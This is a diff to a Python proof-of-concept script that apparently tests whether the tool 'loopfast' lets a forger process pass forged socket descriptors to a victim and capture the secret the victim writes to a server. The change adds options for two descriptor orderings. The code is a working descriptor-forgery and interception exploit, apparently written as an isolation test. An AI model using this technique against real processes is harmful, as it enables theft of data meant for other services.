@@ -7,10 +7,12 @@
 # let the sender read what the receiver writes to S, nor write what the
 # receiver reads as S's. Plain (no loopfast in the receiver): S gets the
 # receiver's bytes; the forger sees none of them.
-# Run: python3 forge_plain_tcp.py <loopfast binary>
+# Run: python3 forge_foreign_socket.py <loopfast binary> [old|new]
+# (old: the descriptor order of branch pass, the record last; new: passrev's)
 import os, socket, sys, struct, fcntl, ctypes, subprocess, time, textwrap, json
 
 LOOPFAST = sys.argv[1]
+LAYOUT = sys.argv[2] if len(sys.argv) > 2 else "new"   # "old": branch pass's (the record last)
 SECRET = b"SECRET-FOR-S-0123456789"
 
 server = textwrap.dedent("""
@@ -37,9 +39,9 @@ victim = textwrap.dedent("""
     u = socket.socket(socket.AF_UNIX); u.bind(path); u.listen(1)
     print("ready", flush=True)
     k, _ = u.accept()
-    m, anc, fl, _ = k.recvmsg(1, socket.CMSG_SPACE(8))
+    m, anc, fl, _ = k.recvmsg(1, socket.CMSG_SPACE(12))
     fds = array.array("i"); fds.frombytes(anc[0][2])
-    s = socket.socket(fileno=fds[0]); s.settimeout(3)
+    s = socket.socket(fileno=fds[-1]); s.settimeout(3)
     s.sendall(b"SECRET-FOR-S-0123456789")
     try:
         r = s.recv(100)
@@ -71,7 +73,7 @@ forger = textwrap.dedent("""
                     ("iovlen", ctypes.c_size_t), ("control", ctypes.c_void_p), ("controllen", ctypes.c_size_t),
                     ("flags", ctypes.c_int)]
     u = socket.socket(socket.AF_UNIX); u.connect(path)
-    fds = [t.fileno(), ring, f]
+    fds = [f, ring, t.fileno()] if sys.argv[3] == "new" else [t.fileno(), ring, f]   # passrev: the record first; pass: last
     body = struct.pack("3i", *fds)
     cm = ctypes.create_string_buffer(socket.CMSG_SPACE(len(body)))
     struct.pack_into("Qii", cm, 0, socket.CMSG_LEN(len(body)), socket.SOL_SOCKET, socket.SCM_RIGHTS)
@@ -97,7 +99,7 @@ def run(victim_lf, s_tier=None):
     vcmd = [sys.executable, "-c", victim, path]
     V = subprocess.Popen([LOOPFAST, "run", "--tier", "shm", "--"] + vcmd if victim_lf else vcmd, stdout=subprocess.PIPE, text=True)
     assert V.stdout.readline().strip() == "ready"
-    F = subprocess.run([LOOPFAST, "run", "--tier", "shm", "--", sys.executable, "-c", forger, path, port],
+    F = subprocess.run([LOOPFAST, "run", "--tier", "shm", "--", sys.executable, "-c", forger, path, port, LAYOUT],
                        capture_output=True, text=True, timeout=30)
     print("victim", "loopfast" if victim_lf else "plain", "| S", s_tier or "plain", "| S got", S.stdout.readline().strip(),
           "| victim read", V.stdout.readline().strip(), "|", F.stdout.strip() or F.stderr[-300:])
